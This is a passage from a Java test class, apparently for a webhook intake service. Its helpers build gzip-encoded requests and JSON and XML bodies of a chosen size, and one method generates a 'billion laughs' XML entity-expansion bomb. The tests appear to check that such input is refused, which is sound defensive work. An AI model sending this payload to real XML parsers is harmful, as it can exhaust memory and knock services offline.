        return raw("erp", event, contentType, Map.of(TOKEN_HEADER, List.of(ERP_TOKEN)), body);
    }

    /** A gzip body to a shop event, signed over the decompressed bytes (which do not matter: it is refused earlier). */
    private WebhookRequest gzipped(String system, String event, byte[] gzipBody) {
        var headers = new LinkedHashMap<>(IntakeFixture.signedHeaders(now, gzipBody));
        headers.put("Content-Encoding", List.of("gzip"));
        return raw(system, event, "application/json", headers, gzipBody);
    }

    private WebhookRequest gzippedErp(byte[] gzipBody) {
        return raw("erp", "invoice-posted", "application/xml", Map.of(TOKEN_HEADER, List.of(ERP_TOKEN), "Content-Encoding", List.of("gzip")), gzipBody);
    }

    static String billionLaughs() {
        var dtd = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        dtd.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">");
        for (int i = 2; i <= 9; i++) dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        return dtd.append("]><lolz>&lol9;</lolz>").toString();
    }

    private static byte[] jsonOfSize(int size) {
        byte[] prefix = "{\"order\":{\"id\":\"1\"},\"pad\":\"".getBytes(UTF_8);
        byte[] body = new byte[size];
        java.util.Arrays.fill(body, (byte) 'a');
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        body[size - 2] = '"';
        body[size - 1] = '}';
        return body;
    }

    private static byte[] xmlOfSize(int size) {
        byte[] prefix = "<invoice><number>1</number><pad>".getBytes(UTF_8);
        byte[] suffix = "</pad></invoice>".getBytes(UTF_8);
        byte[] body = new byte[size];
        java.util.Arrays.fill(body, (byte) 'a');
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        System.arraycopy(suffix, 0, body, size - suffix.length, suffix.length);
        return body;
    }

    static byte[] gzip(byte[] data) {
        var out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        for (byte[] part : parts) out.writeBytes(part);
        return out.toByteArray();
    }

    private static String hex(byte[] bytes) {
        return java.util.HexFormat.of().formatHex(bytes);
    }

    private static String abbreviate(String text) {
        return text.length() > 24 ? "'" + text.substring(0, 12) + "…' (" + text.length() + " chars)" : "'" + text + "'";
    }
}
